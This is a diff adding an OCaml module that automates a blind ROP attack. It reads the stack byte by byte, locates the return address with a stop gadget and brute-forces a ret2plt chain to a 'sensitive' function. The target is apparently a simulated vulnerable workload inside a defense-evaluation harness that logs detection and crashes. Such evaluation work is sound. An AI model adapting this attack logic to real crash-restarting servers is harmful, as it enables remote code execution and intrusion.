@@ -1,0 +1,154 @@
+open R2c_machine
+
+let name = "blind-rop"
+
+let marker = R2c_workloads.Vulnapp.marker
+
+let succeeded t = List.exists (fun (rdi, _) -> rdi = marker) (Oracle.sensitive_log t)
+
+let finish ?(notes = []) ~attempts t =
+  Report.make ~attack:name ~success:(succeeded t) ~detected:(Oracle.detected t)
+    ~crashes:(Oracle.crashes t) ~attempts ~notes ()
+
+type probe_result = Survived of int  (** output lines *) | Crashed_probe | Gone
+
+(* One probe: respawn, reach the serving state, deliver the payload, run to
+   the end; report survival and the number of response lines the attacker
+   saw. *)
+let probe t payload =
+  if t.Oracle.dead && not (Oracle.restart t) then Gone
+  else
+    match Oracle.to_break t with
+    | `Done _ -> Gone
+    | `Break -> (
+        Oracle.send t payload;
+        match Oracle.resume_to_end t with
+        | Process.Exited _ ->
+            let lines =
+              String.fold_left
+                (fun acc c -> if c = '\n' then acc + 1 else acc)
+                0
+                (Process.output t.Oracle.proc)
+            in
+            Survived lines
+        | Process.Crashed _ | Process.Timeout -> Crashed_probe)
+
+let plt_addr_of name_wanted =
+  let rec idx i = function
+    | [] -> 0
+    | n :: tl -> if n = name_wanted then i else idx (i + 1) tl
+  in
+  Addr.text_base + (16 * idx 0 Image.builtin_names)
+
+let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
+  let notes = ref [] in
+  let note fmt = Printf.ksprintf (fun s -> notes := s :: !notes) fmt in
+  let attempts = ref 0 in
+  let monitor_tripped () = Oracle.detections t >= monitor_threshold in
+  let abort why =
+    note "%s" why;
+    finish ~attempts:!attempts ~notes:(List.rev !notes) t
+  in
+  let budget_left () = !attempts < probe_budget && not (monitor_tripped ()) in
+  let try_probe payload =
+    incr attempts;
+    probe t payload
+  in
+  (* Bitau et al.'s stack reading: extend the overflow one byte at a time,
+     keeping only bytes the server survives. The true values are not needed
+     — any survivable filler reaches deeper into the frame. *)
+  let filler = Buffer.create 128 in
+  let result = ref None in
+  let stop r = result := Some r in
+  let learn_byte () =
+    let rec guess g =
+      if g > 255 then None
+      else if not (budget_left ()) then None
+      else
+        match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
+        | Survived _ -> Some (Char.chr g)
+        | Crashed_probe -> guess (g + 1)
+        | Gone -> None
+    in
+    (* Likely bytes first: zero padding, then the canonical stack/heap/text
+       high bytes, then everything. *)
+    let ordered = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] in
+    let rec preferred = function
+      | [] -> guess 0
+      | g :: tl -> (
+          if not (budget_left ()) then None
+          else
+            match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
+            | Survived _ -> Some (Char.chr g)
+            | Crashed_probe -> preferred tl
+            | Gone -> None)
+    in
+    preferred ordered
+  in
+  (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
+     produces one extra response line iff the word is the return address. *)
+  let stop_plt = plt_addr_of "print_int" in
+  let ra_here () =
+    let base = Buffer.contents filler in
+    match try_probe (base ^ Payload.le64 stop_plt) with
+    | Survived _ | Gone -> false
+    | Crashed_probe -> (
+        let with_stop =
+          String.fold_left
+            (fun acc c -> if c = '\n' then acc + 1 else acc)
+            0
+            (Process.output t.Oracle.proc)
+        in
+        match try_probe (base ^ Payload.fill 8) with
+        | Survived _ | Gone -> false
+        | Crashed_probe ->
+            let with_garbage =
+              String.fold_left
+                (fun acc c -> if c = '\n' then acc + 1 else acc)
+                0
+                (Process.output t.Oracle.proc)
+            in
+            with_stop > with_garbage)
+  in
+  let ra_found = ref false in
+  while !result = None && not !ra_found do
+    if Buffer.length filler >= 512 then stop (abort "return address not located within 512 bytes")
+    else if not (budget_left ()) then
+      stop
+        (abort
+           (if monitor_tripped () then "monitoring response during stack reading"
+            else "probe budget exhausted during stack reading"))
+    else if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
+    else
+      match learn_byte () with
+      | Some c -> Buffer.add_char filler c
+      | None ->
+          stop
+            (abort
+               (if monitor_tripped () then "monitoring response during stack reading"
+                else "stack reading failed"))
+  done;
+  match !result with
+  | Some r -> r
+  | None ->
+  note "return address at buffer+%d (stack reading)" (Buffer.length filler);
+  (* Gadget sweep: ret2plt chain with brute-forced first gadget. The PLT of
+     a non-PIE binary is architectural knowledge. *)
+  let sensitive = plt_addr_of "sensitive" in
+  let start = Addr.text_base + (16 * List.length Image.builtin_names) in
+  let base = Buffer.contents filler in
+  let rec sweep addr =
+    if not (budget_left ()) then
+      abort
+        (if monitor_tripped () then "monitoring response during gadget sweep"
+         else "probe budget exhausted")
+    else begin
+      let chain = Payload.le64 addr ^ Payload.le64 marker ^ Payload.le64 sensitive in
+      match try_probe (base ^ chain) with
+      | Gone -> abort "worker gone"
+      | Survived _ | Crashed_probe ->
+          if succeeded t then finish ~attempts:!attempts ~notes:(List.rev !notes) t
+          else sweep (addr + 1)
+    end
+  in
+  sweep start
